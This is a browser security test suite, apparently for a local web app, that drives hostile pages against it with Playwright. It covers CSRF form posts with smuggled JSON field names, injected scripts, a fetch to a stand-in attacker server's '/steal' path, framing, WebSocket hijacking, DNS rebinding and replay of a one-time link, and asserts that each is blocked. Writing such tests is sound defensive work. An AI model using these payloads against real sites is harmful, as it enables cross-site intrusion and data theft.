// Hostile pages in a real browser, in which the desk's own window is open too: none of them reaches the desk or reads a word of it.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
import { launchBrowser, newContext } from '../browser/browser.ts';
import { startKit, type Kit } from '../hosts/host-kit.ts';

const rebindName = 'rebind.example';
let kit: Kit;
let browser: Browser;
let context: BrowserContext;
let desk: Page;
let evil: Page;
let evilServer: Server;
let evilPort: number;
let cookiesSeen: string[];

beforeAll(async () => {
  kit = await startKit({ visitor: { burst: 10_000, perSecond: 1000 }, anonymous: { burst: 10_000, perSecond: 1000 } });
  evilServer = createServer((request, response) => {
    cookiesSeen.push(request.headers.cookie ?? '');
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end('<!doctype html><title>evil</title><body>hostile</body>');
  });
  evilPort = await new Promise((resolve) => evilServer.listen(0, '127.0.0.1', () => resolve((evilServer.address() as AddressInfo).port)));
  browser = await launchBrowser(inject('browser'), { args: [`--host-resolver-rules=MAP ${rebindName} 127.0.0.1`] });
});
afterAll(async () => {
  await browser.close();
  await kit.close();
  evilServer.closeAllConnections();
  evilServer.close();
});

/** The victim: came in by a link, has the page open, and now looks at a hostile page as well. */
beforeEach(async () => {
  await context?.close();
  cookiesSeen = [];
  context = await newContext(browser);
  desk = await context.newPage();
  await desk.goto(kit.host.newLink());
  evil = await context.newPage();
  await evil.goto(`http://127.0.0.1:${evilPort}/`);
  kit.tiny.asked.length = 0;
});

const origin = (): string => kit.host.origin;
const ownCall = (page: Page): Promise<number> =>
  page.evaluate(async () => {
    const headers = { 'content-type': 'application/json', stafette: '1' };
    return (await fetch('/rpc/people.list', { method: 'POST', headers, body: JSON.stringify({ session: null, input: {} }) })).status;
  });

describe('the desk’s own page', () => {
  it('[B7] works: it calls, hears events, and runs its script under the CSP', async () => {
    expect(await desk.title()).toBe('läuft');
    expect(new URL(desk.url()).href).toBe(`${origin()}/`);
    expect(await ownCall(desk)).toBe(200);
    const heard = desk.evaluate(
      () =>
        new Promise((resolve) => {
          const socket = new WebSocket(`ws://${location.host}/events`);
          socket.onmessage = ({ data }) => resolve(data);
        }),
    );
    await expect.poll(() => kit.host.windows()).toBeGreaterThan(0);
    kit.tiny.emit({ type: 'signed-out', session: 'x' });
    expect(await heard).toBe('{"type":"signed-out","session":"x"}');
  });

  it('[B3] cannot read its own cookie', async () => {
    expect(await desk.evaluate(() => document.cookie)).toBe('');
    expect((await context.cookies(origin())).map(({ name, httpOnly, sameSite }) => [name, httpOnly, sameSite])).toEqual([
      [`stafette_${kit.host.tcpPort}`, true, 'Strict'],
    ]);
  });

  it('[B14] runs no script that was slipped into it, inline or from elsewhere, and sends nothing elsewhere', async () => {
    const ran = await desk.evaluate(async (port) => {
      const add = (fill: (script: HTMLScriptElement) => void): Promise<void> =>
        new Promise((resolve) => {
          const script = document.createElement('script');
          fill(script);
          script.onerror = script.onload = (): void => resolve();
          document.body.append(script);
          setTimeout(resolve, 300);
        });
      await add((script) => (script.textContent = 'window.slipped = 1'));
      await add((script) => (script.src = `http://127.0.0.1:${port}/x.js`));
      const sent = await fetch(`http://127.0.0.1:${port}/steal`, { mode: 'no-cors' }).then(
        () => 'sent',
        () => 'blocked',
      );
      return ['slipped' in window, sent];
    }, evilPort);
    expect(ran).toEqual([false, 'blocked']);
    expect(cookiesSeen).toHaveLength(1);
  });
});

describe('a page on another port of the same machine', () => {
  it('gets our cookie from the browser, which is why SameSite is no defence here', async () => {
    await evil.evaluate(() => fetch('/again'));
    expect(cookiesSeen.at(-1)).toContain(`stafette_${kit.host.tcpPort}=`);
  });

  it.each(['cors', 'no-cors'] as const)('[B2] reaches no call by fetch with credentials (%s)', async (mode) => {
    const outcome = await evil.evaluate(
      async ([to, how]) => {
        const headers: Record<string, string> =
          how === 'cors' ? { 'content-type': 'application/json', stafette: '1' } : { 'content-type': 'text/plain' };
        const body = JSON.stringify({ session: null, input: {} });
        return fetch(`${to}/rpc/people.list`, { method: 'POST', mode: how, credentials: 'include', headers, body }).then(
          () => 'answered',
          () => 'blocked',
        );
      },
      [origin(), mode] as const,
    );
    expect([outcome, kit.tiny.asked]).toEqual(['blocked', []]);
  });

  it('[B2] reads no page, neither by fetch nor as a script or an image', async () => {
    const loaded = await evil.evaluate(async (to) => {
      const by = (tag: 'script' | 'img', path: string): Promise<string> =>
        new Promise((resolve) => {
          const element = document.createElement(tag);
          element.onload = (): void => resolve('loaded');
          element.onerror = (): void => resolve('blocked');
          element.src = to + path;
          document.body.append(element);
        });
      const fetched = await fetch(`${to}/`, { credentials: 'include' }).then(
        () => 'loaded',
        () => 'blocked',
      );
      return [fetched, await by('script', '/assets/a-1234.js'), await by('img', '/'), document.title];
    }, origin());
    expect(loaded).toEqual(['blocked', 'blocked', 'blocked', 'evil']);
  });

  it.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])(
    '[B2] [B7] reaches no call by posting a form as %s',
    async (type) => {
      const [answer] = await Promise.all([
        evil.waitForResponse(/rpc/),
        evil.evaluate(
          ([to, enctype]) => {
            const form = document.createElement('form');
            Object.assign(form, { method: 'post', action: `${to}/rpc/people.list`, enctype });
            const field = document.createElement('input');
            Object.assign(field, { name: '{"session":null,"input":{},"x":"', value: '"}' });
            form.append(field);
            document.body.append(form);
            form.submit();
          },
          [origin(), type] as const,
        ),
      ]);
      expect([answer.status(), kit.tiny.asked]).toEqual([403, []]);
    },
  );

  it('[B14] [B2] cannot frame the desk', async () => {
    await evil.evaluate((to) => {
      const frame = document.createElement('iframe');
      frame.src = `${to}/`;
      document.body.append(frame);
      return new Promise((resolve) => (frame.onload = resolve));
    }, origin());
    const inside = evil.frames().at(-1);
    expect(inside?.url()).not.toBe(`${origin()}/`);
    expect(await inside?.evaluate(() => document.title)).not.toBe('läuft');
  });

  it('[B2] [B14] opens only the page that says no, and keeps no hand on it', async () => {
    const [opened] = await Promise.all([context.waitForEvent('page'), evil.evaluate((to) => void window.open(`${to}/`), origin())]);
    await opened.waitForLoadState();
    expect(await opened.textContent('h1')).toBe('Aufruf von einer anderen Seite');
    expect(await opened.evaluate(() => window.opener)).toBe(null);
  });

  it('[B15] opens no event socket', async () => {
    const outcome = await evil.evaluate(
      (to) =>
        new Promise((resolve) => {
          const socket = new WebSocket(`${to.replace('http', 'ws')}/events`);
          socket.onopen = (): void => resolve('opened');
          socket.onerror = (): void => resolve('refused');
        }),
      origin(),
    );
    expect([outcome, kit.host.windows()]).toEqual(['refused', 0]);
  });

  it('[B4] gains nothing by sending the victim to a link of its own making', async () => {
    const answer = await evil.goto(`${origin()}/open?key=${'A'.repeat(43)}`);
    expect([answer?.status(), answer?.headers()['set-cookie']]).toEqual([401, undefined]);
    expect(await ownCall(desk)).toBe(200);
  });
});

describe('a name that points at this machine', () => {
  it.each([rebindName, 'localhost'])('[B1] %s gets 421 and nothing else, even as the address of the page', async (name) => {
    const answer = await evil.goto(`http://${name}:${kit.host.tcpPort}/`);
    expect(answer?.status()).toBe(421);
    expect(await evil.textContent('body')).not.toContain('Stafette');
    expect(
      await evil.evaluate(
        async () =>
          (await fetch('/rpc/people.list', { method: 'POST', headers: { 'content-type': 'application/json', stafette: '1' }, body: '{}' }))
            .status,
      ),
    ).toBe(421);
    expect(kit.tiny.asked).toEqual([]);
  });
});

describe('a browser that did not come in', () => {
  it('[B5] sees the way in and nothing of the desk', async () => {
    const page = await (await newContext(browser)).newPage();
    const answer = await page.goto(`${origin()}/`);
    expect([answer?.status(), await page.textContent('h1')]).toEqual([401, 'Dieser Browser ist nicht angemeldet']);
    expect([await ownCall(page), kit.tiny.asked]).toEqual([401, []]);
    await page.context().close();
  });

  it('[B4] cannot use a link the victim has opened', async () => {
    const link = kit.host.newLink();
    await desk.goto(link);
    const page = await (await newContext(browser, { locale: 'en-GB' })).newPage();
    const answer = await page.goto(link);
    expect([answer?.status(), await page.textContent('h1')]).toEqual([401, 'This link was already used']);
    expect(await page.context().cookies()).toEqual([]);
    await page.context().close();
  });
});

describe('eight windows of one browser', () => {
  it('[B11] [B15] all stay connected and all hear', async () => {
    const windows = await Promise.all(
      Array.from({ length: 8 }, async () => {
        const page = await context.newPage();
        await page.goto(`${origin()}/`);
        await page.evaluate(() => {
          const socket = new WebSocket(`ws://${location.host}/events`);
          socket.onmessage = (): void => void (document.title = 'gehört');
          return new Promise((resolve) => (socket.onopen = resolve));
        });
        return page;
      }),
    );
    expect(await Promise.all(windows.map(ownCall))).toEqual(Array(8).fill(200));
    kit.tiny.emit({ type: 'signed-out', session: 'x' });
    for (const page of windows) await expect.poll(() => page.title()).toBe('gehört');
  });
});
